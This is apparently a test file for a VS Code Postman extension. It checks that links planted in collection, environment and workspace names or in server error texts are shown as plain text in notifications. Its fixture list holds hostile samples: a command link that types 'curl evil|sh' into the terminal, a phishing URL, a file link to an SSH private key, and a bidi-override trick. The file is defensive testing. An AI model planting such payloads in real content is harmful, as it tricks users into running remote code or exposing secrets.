import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import * as vscode from 'vscode';
import type { TestingApi } from '../../../src/extension';
import { LocalPostmanServer } from '../../fixtures/postmanServer';
import { saw, scenario } from '../report';
import { reliabilityDataset, TARGETS, withTargets } from './data';
import { closeAllEditors, HostRun } from './kit';

/**
 * The pattern VS Code's notifications and dialogs render as live links (parseLinkedText,
 * vs/base/common/linkedText.ts in code-server 4.139.1): a command link runs its command.
 */
const VSCODE_LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/gi;
/** What one message may hold at most, in code points (src/text/plain.ts). */
const MAX_MESSAGE = 1500;

/** Links as an attacker would plant them in a name or an error text. */
const PLANTS: { name: string; text: string }[] = [
  { name: 'a command link', text: '[Open Settings](command:workbench.action.openGlobalKeybindings)' },
  { name: 'a command link with arguments', text: '[Fix](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)' },
  { name: 'an https link', text: '[Postman login](https://evil.example/login)' },
  { name: 'a file link', text: '[Your keys](file:///home/user/.ssh/id_rsa)' },
  { name: 'a Markdown-escaped link', text: '\\[esc\\](command:workbench.action.openGlobalKeybindings)' },
  { name: 'a link with a title', text: '[t](command:workbench.action.openGlobalKeybindings "Click me")' },
  { name: 'a link split by a newline', text: '[Open\nSettings](command:workbench.action.openGlobalKeybindings)' },
  { name: 'a link behind a bidi override', text: '\u202e[Open](command:workbench.action.openGlobalKeybindings)\u202c' },
  { name: 'a link after 5,000 characters', text: `${'A'.repeat(5000)}[x](command:workbench.action.openGlobalKeybindings)` },
];

/**
 * The trust journey: a link planted in each untrusted source that reaches a message —
 * a collection's name, Postman's error text, an environment's name (Save a Copy), a
 * workspace's name (Import) — arrives at VS Code as plain text, in bounded length.
 * Messages are read as VS Code receives them (kit's Messages).
 */
describe('reliability: untrusted text never becomes a link', function () {
  this.timeout(120_000);
  const SOURCES = ['Trust C', 'Trust E', 'Trust W'];
  const names = PLANTS.flatMap((_, i) => SOURCES.map((s) => `${s}${i}`));
  const server = new LocalPostmanServer({ rateLimits: false, dataset: () => withTargets(reliabilityDataset(), names) });
  const host = new HostRun(server);
  const messages = host.messages;
  const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'postman-trust-'));
  let api: TestingApi;

  before(async () => {
    api = await host.start({ signIn: true });
  });

  after(async () => {
    api.setDocumentUi(undefined);
    await closeAllEditors();
    await host.stop();
    fs.rmSync(tmp, { recursive: true, force: true });
  });

  afterEach(async () => {
    api.setDocumentUi(undefined);
    await host.heal();
    await closeAllEditors();
  });

  const targets = () => {
    const ws = server.dataset.workspaces.find((w) => w.name === TARGETS);
    assert.ok(ws);
    return ws;
  };

  /** Every message since `mark` holds no link, none too long; at least one names `seen`. */
  function assertPlain(mark: number, seen: RegExp): void {
    const shown = messages.since(mark);
    const relevant = shown.filter((t) => seen.test(t));
    assert.ok(relevant.length > 0, `expected a message matching ${seen}, got ${JSON.stringify(shown)}`);
    for (const text of shown) {
      assert.deepEqual([...text.matchAll(VSCODE_LINK)].map((m) => m[0]), [], text);
      assert.ok([...text].length <= MAX_MESSAGE, `${[...text].length} code points`);
    }
    saw(`${shown.length} message(s), no link: ${relevant[0].slice(0, 60)}`);
  }

  PLANTS.forEach((plant, i) => {
    scenario('host', 'trust', `a collection's name holding ${plant.name} (Open fails)`, async () => {
      const ref = targets().collections.find((c) => c.name === `Trust C${i}`);
      assert.ok(ref);
      const name = `Orders ${plant.text}`;
      ref.name = name;
      server.dataset.collections[ref.uid].info.name = name;
      server.injectFault({ kind: 'status', status: 503, match: { path: `/collections/${ref.uid}` } });
      const mark = messages.shown.length;
      await vscode.commands.executeCommand('postman.openCollection', { kind: 'collection', uid: ref.uid, label: name, id: ref.uid, flags: [] });
      assertPlain(mark, /Could not open the collection "Orders/);
    });

    scenario('host', 'trust', `Postman's error text holding ${plant.name}`, async () => {
      const ref = targets().collections.find((c) => c.name === `Trust W${i}`);
      assert.ok(ref);
      server.injectFault({ kind: 'status', status: 403, body: { error: { name: 'forbiddenError', message: `Try again. ${plant.text}` } }, match: { path: `/collections/${ref.uid}` } });
      const mark = messages.shown.length;
      await vscode.commands.executeCommand('postman.openCollection', { kind: 'collection', uid: ref.uid, label: ref.name, id: ref.uid, flags: [] });
      assertPlain(mark, /Could not open the collection .*Try again\./);
    });

    scenario('host', 'trust', `an environment's name holding ${plant.name} (Save a Copy)`, async () => {
      const ref = targets().environments.find((e) => e.name === `Trust E${i}`);
      assert.ok(ref);
      const name = `Staging ${plant.text}`;
      ref.name = name;
      server.dataset.environments[ref.uid].name = name;
      api.repo.invalidate(`environment:${ref.uid}`);
      const target = vscode.Uri.file(path.join(tmp, `copy-${i}.json`));
      api.setDocumentUi({ saveDialog: async () => target, modal: async (_m, _d, ...actions) => actions[0] });
      const mark = messages.shown.length;
      await vscode.commands.executeCommand('postman.saveCopy', { kind: 'environment', uid: ref.uid, label: name, id: ref.uid, flags: [] });
      assertPlain(mark, /Saved a copy of "Staging/);
    });
  });

  scenario('host', 'trust', "a workspace's and a file's collection name holding links (Import)", async () => {
    const ws = targets();
    ws.name = `${TARGETS} ${PLANTS[0].text}`;
    api.repo.invalidate('workspaces');
    const file = path.join(tmp, 'import.postman_collection.json');
    fs.writeFileSync(file, JSON.stringify({ info: { name: `Imported ${PLANTS[2].text}`, schema: 'https://schema.getpostman.com/json/collection/v2.1.0/collection.json' }, item: [] }));
    api.setDocumentUi({ openDialog: async () => vscode.Uri.file(file), pickWorkspace: async (list) => list.find((w) => w.id === ws.id) });
    const mark = messages.shown.length;
    await vscode.commands.executeCommand('postman.importCollection');
    assertPlain(mark, /^Imported "Imported/);
    ws.name = TARGETS;
    api.repo.invalidate('workspaces');
  });
});
